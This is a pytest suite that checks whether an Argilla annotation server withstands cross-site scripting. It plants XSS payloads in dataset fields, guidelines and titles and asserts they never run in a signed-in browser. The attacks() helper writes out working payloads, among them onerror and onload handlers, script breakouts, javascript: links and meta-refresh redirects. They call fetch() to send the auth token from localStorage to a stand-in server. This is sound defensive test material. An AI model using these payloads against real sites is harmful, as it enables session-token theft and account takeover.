"""What a hostile instruction, or a hostile page in the same browser, can do to who rates. Nothing."""

import html
import threading
import time
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import argilla as rg
import httpx
import pytest

from tests.browser import sign_in


@pytest.fixture(scope="module")
def client(argilla_server):
    return argilla_server.client()


class TestHeaders:
    @pytest.mark.parametrize("path", ["/", "/sign-in", "/api/v1/version", "/api/v1/me", "/nothing-here"])
    def test_every_answer_has_a_content_security_policy(self, argilla_server, path):
        headers = httpx.get(argilla_server.url + path, timeout=60).headers
        directives = dict(part.strip().split(" ", 1) for part in headers["content-security-policy"].split(";"))
        assert directives["default-src"] == "'self'"
        assert "unsafe" not in directives["script-src"]
        assert directives["object-src"] == directives["frame-ancestors"] == "'none'"
        assert headers["x-content-type-options"] == "nosniff"

    @pytest.mark.parametrize("origin", ["http://evil.invalid", "null", "http://127.0.0.1:1", "https://localhost"])
    def test_pages_of_others_may_not_read_answers(self, argilla_server, origin):
        answer = httpx.get(f"{argilla_server.url}/api/v1/version", headers={"Origin": origin}, timeout=60)
        assert "access-control-allow-origin" not in answer.headers

    def test_its_own_pages_may(self, argilla_server):
        for host in ("127.0.0.1", "localhost"):
            origin = argilla_server.url.replace("127.0.0.1", host)
            answer = httpx.get(f"{argilla_server.url}/api/v1/version", headers={"Origin": origin}, timeout=60)
            assert answer.headers["access-control-allow-origin"] == origin


@pytest.fixture(scope="module")
def eavesdropper():
    """Another server on this machine, and the requests that reached it."""
    came = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            came.append(self.path)
            self.send_response(204)
            self.end_headers()

        def do_POST(self):
            self.do_GET()

        def log_message(self, *_):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", came
    server.shutdown()
    server.server_close()
    thread.join()


def attacks(place, address):
    """Texts that mark the page, or tell the address, if anything in them runs or loads."""
    run = f"top.document.title='PWNED {place}';fetch('{address}/{place}?'+localStorage['auth._token.local'])"
    return [
        f'<img src=x onerror="{run}">',
        f'<svg onload="{run}"></svg>',
        f"</script><script>{run}</script>",
        f'<iframe srcdoc="<script>{run}</script>"></iframe>',
        f'<img src="{address}/{place}-image">',
        f'<link rel="stylesheet" href="{address}/{place}-style">',
        f'<form action="{address}/{place}-form"><button id="go">go</button></form>',
        f'<details open ontoggle="{run}">x</details>',
        f"![x]({address}/{place}-markdown) [x](javascript:{run})",
        f'<object data="{address}/{place}-object"></object><embed src="{address}/{place}-embed">',
        f'<meta http-equiv="refresh" content="0;url={address}/{place}-refresh"><base href="{address}/">',
    ]


def attacked_dataset(client, place, address):
    """A dataset with the attacks at one place of the page; the text of a field is pushed as it is."""
    text = "\n\n".join(attacks(place, address))
    fields, values, suggestions, guidelines = [rg.TextField("text")], {"text": "calm"}, [], "Rate."
    title = None
    if place == "text":
        values = {"text": text}
    elif place == "markdown":
        fields, values = [rg.TextField("text", use_markdown=True)], {"text": text}
    elif place == "chat":
        fields, values = [rg.ChatField("text", use_markdown=True)], {"text": [{"role": "user", "content": text}]}
    elif place == "custom":
        fields, values = [rg.CustomField("text", template="<p>{{record.fields.text.b}}</p>")], {"text": {"b": text}}
    elif place == "suggestion":
        suggestions = [rg.Suggestion("why", text)]
    elif place == "guidelines":
        guidelines = text
    else:
        title = attacks(place, address)[0]
    settings = rg.Settings(
        guidelines=guidelines,
        fields=fields,
        questions=[
            rg.LabelQuestion("tasty", labels=["yes", "no"], title=title),
            rg.TextQuestion("why", required=False, use_markdown=True),
        ],
        metadata=[rg.TermsMetadataProperty("source")],
    )
    name = f"attack-{place}-{uuid.uuid4().hex[:6]}"
    dataset = rg.Dataset(name=name, workspace="selfinstruct", client=client, settings=settings).create()
    dataset.records.log([rg.Record(id="1", fields=values, suggestions=suggestions, metadata={"source": text[:100]})])
    return dataset


@pytest.fixture(scope="module")
def signed_in(argilla_server, tmp_path_factory):
    """A browser in which anna is signed in."""
    from tests.browser import headless_chromium

    with headless_chromium(tmp_path_factory.mktemp("attacked") / "profile") as driver:
        username, password, _ = argilla_server.rater("anna")
        sign_in(driver, argilla_server.url, username, password)
        yield driver


def open_record(driver, url, dataset):
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait

    driver.get(f"{url}/dataset/{dataset.id}/annotation-mode")
    WebDriverWait(driver, 60).until(lambda _: "Submit" in driver.find_element(By.TAG_NAME, "body").text)
    time.sleep(2)  # what could run, runs


PLACES = ["text", "markdown", "chat", "custom", "suggestion", "guidelines", "title"]


@pytest.mark.parametrize("place", PLACES)
def test_no_attack_runs_or_tells_anything(argilla_server, client, signed_in, eavesdropper, place):
    address, came = eavesdropper
    dataset = attacked_dataset(client, place, address)
    open_record(signed_in, argilla_server.url, dataset)
    assert "PWNED" not in signed_in.title
    assert came == []
    assert signed_in.current_url.startswith(argilla_server.url)
    # The token is where an attack would have found it.
    assert signed_in.execute_script("return localStorage['auth._token.local']")


def test_the_policy_is_what_stops_the_attack_in_a_plain_text_field(argilla_server, client, signed_in, eavesdropper):
    dataset = attacked_dataset(client, "text", eavesdropper[0])
    signed_in.get_log("browser")
    open_record(signed_in, argilla_server.url, dataset)
    refused = [
        entry["message"] for entry in signed_in.get_log("browser") if "Content Security Policy" in entry["message"]
    ]
    assert any("inline event handler" in message for message in refused)


def test_an_escaped_text_shows_exactly_as_it_is(argilla_server, client, signed_in):
    from selenium.webdriver.common.by import By

    text = 'if a < b && c > d: print("<b>hi</b>")  # *star* _u_ &amp; <img src=x onerror="document.title=1"> list<int>'
    settings = rg.Settings(fields=[rg.TextField("text")], questions=[rg.LabelQuestion("tasty", labels=["yes", "no"])])
    name = f"escaped-{uuid.uuid4().hex[:6]}"
    dataset = rg.Dataset(name=name, workspace="selfinstruct", client=client, settings=settings).create()
    dataset.records.log([rg.Record(id="1", fields={"text": html.escape(text)})])
    open_record(signed_in, argilla_server.url, dataset)
    shown = signed_in.find_element(By.TAG_NAME, "body").get_property("textContent")
    assert text in shown
    assert signed_in.title != "1"


def test_the_page_asks_no_other_server_for_anything(argilla_server, signed_in):
    import json

    hosts = set()
    for entry in signed_in.get_log("performance"):
        message = json.loads(entry["message"])["message"]
        if message["method"] == "Network.responseReceived":
            hosts.add(message["params"]["response"]["url"].split("?")[0])
    others = {url for url in hosts if not url.startswith((argilla_server.url, "data:", "blob:", "chrome", "about:"))}
    assert others == set()
